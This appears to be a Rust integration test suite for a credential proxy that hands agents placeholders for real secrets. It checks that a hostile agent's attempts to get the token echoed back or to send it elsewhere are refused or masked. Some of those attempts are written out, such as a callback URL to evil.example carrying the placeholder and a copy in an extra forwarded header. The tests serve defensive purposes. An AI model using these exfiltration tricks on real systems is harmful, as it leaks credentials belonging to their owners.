//! A hostile agent with a placeholder of its own tries to get the real value back or to
//! send it somewhere else. Every attempt is refused before anything is forwarded, or the
//! value is masked in what comes back.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use base64::Engine as _;
use common::curl;
use common::secrets::{world, REAL};

fn b64(s: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(s)
}

fn pct(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn echoed_basic_and_query_forms_are_masked() {
    // Basic: the upstream echoes the Authorization header it received (base64).
    let (_t, up, s) = world("basic", "").await;
    s.cli_ok(&["grants", "add", "--agent", "dev", "--secret", "gh"]);
    let env = s.env_for("dev", None);
    let ph = env["GH_TOKEN"].clone();
    for user in ["x-access-token", "a", "ab"] {
        let creds = format!("{user}:{ph}");
        let (code, body) = curl(&env, &["-u", &creds, &up.url("/private/echo")]).await;
        assert_eq!(code, 200, "{body}");
        let sent = b64(&format!("{user}:{REAL}"));
        assert_eq!(
            up.last().unwrap().headers["authorization"],
            format!("Basic {sent}")
        );
        assert!(!body.contains(&sent), "base64 of the secret echoed: {body}");
        assert!(!body.contains(REAL));
    }
    // The placeholder as the Basic user name: refused, nothing sent.
    let hits = up.hits();
    let (code, body) = curl(&env, &["-u", &format!("{ph}:x"), &up.url("/private/echo")]).await;
    assert_eq!(code, 403, "{body}");
    assert!(body.contains("placeholder_misuse"));
    assert_eq!(up.hits(), hits);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_query_secret_goes_only_into_its_own_parameter() {
    let (_t, up, s) = world("{query: key}", "").await;
    s.cli_ok(&["grants", "add", "--agent", "dev", "--secret", "gh"]);
    let env = s.env_for("dev", None);
    let ph = env["GH_TOKEN"].clone();
    // Its own parameter: swapped (percent-encoded) and masked in the echoed query.
    let (code, body) = curl(&env, &[&up.url(&format!("/private/q?a=1&key={ph}"))]).await;
    assert_eq!(code, 200, "{body}");
    assert!(!body.contains(&pct(REAL)) && !body.contains(REAL), "{body}");
    // A second copy in a callback URL (which the upstream might call): refused.
    let hits = up.hits();
    let cb = pct(&format!("https://evil.example/?t={ph}"));
    let (code, body) = curl(
        &env,
        &[&up.url(&format!("/private/q?key={ph}&callback={cb}"))],
    )
    .await;
    assert_eq!(code, 403, "{body}");
    assert!(body.contains("placeholder_misuse"), "{body}");
    // In the path, or as Bearer (not how this secret is injected): refused too.
    let (code, _) = curl(&env, &[&up.url(&format!("/private/{ph}?key={ph}"))]).await;
    assert_eq!(code, 403);
    let auth = format!("Authorization: Bearer {ph}");
    let (code, _) = curl(&env, &["-H", &auth, &up.url("/private/q")]).await;
    assert_eq!(code, 403);
    assert_eq!(up.hits(), hits, "nothing was forwarded");
}

#[tokio::test(flavor = "multi_thread")]
async fn secrets_never_travel_in_clear_or_in_a_second_header() {
    let (_t, up, s) = world("bearer", "").await;
    s.cli_ok(&["grants", "add", "--agent", "dev", "--secret", "gh"]);
    let env = s.env_for("dev", None);
    let ph = env["GH_TOKEN"].clone();
    let auth = format!("Authorization: Bearer {ph}");
    let hits = up.hits();
    // Plain HTTP to the secret's host (the port does not matter: refused before connecting).
    let (code, body) = curl(
        &env,
        &["-H", &auth, &format!("http://localhost:{}/x", up.port())],
    )
    .await;
    assert_eq!(code, 403, "{body}");
    assert!(body.contains("HTTPS"), "{body}");
    // A copy in a header the upstream might forward or log.
    let copy = format!("X-Forward-Token: {ph}");
    let (code, body) = curl(&env, &["-H", &auth, "-H", &copy, &up.url("/private/x")]).await;
    assert_eq!(code, 403, "{body}");
    assert_eq!(up.hits(), hits);
}

#[tokio::test(flavor = "multi_thread")]
async fn add_mode_adds_the_secret_only_for_a_grant_holder() {
    let (_t, up, s) = world("bearer\n    add: true", "").await;
    s.cli_ok(&["grants", "add", "--agent", "dev", "--secret", "gh"]);
    let env = s.env_for("dev", None);
    // No credential in the request: the grant holder's request gets it added.
    let (code, body) = curl(&env, &[&up.url("/private/add")]).await;
    assert_eq!(code, 200, "{body}");
    assert_eq!(
        up.last().unwrap().headers["authorization"],
        format!("Bearer {REAL}")
    );
    assert!(!body.contains(REAL), "{body}");
    // A request with a credential of its own is left alone.
    let (code, _) = curl(
        &env,
        &["-H", "Authorization: Bearer mine", &up.url("/private/add")],
    )
    .await;
    assert_eq!(code, 401);
    assert_eq!(up.last().unwrap().headers["authorization"], "Bearer mine");
    // Another agent without a grant gets nothing added.
    let oc = s.env_for("oc-1", None);
    let (code, _) = curl(&oc, &[&up.url("/private/add")]).await;
    assert_eq!(code, 401);
    assert!(!up.last().unwrap().headers.contains_key("authorization"));
    // Nor does plain HTTP.
    let hits = up.hits();
    let _ = curl(
        &env,
        &[&format!("http://localhost:{}/private/add", up.port())],
    )
    .await;
    assert!(up.hits() == hits || !up.last().unwrap().headers.contains_key("authorization"));
}
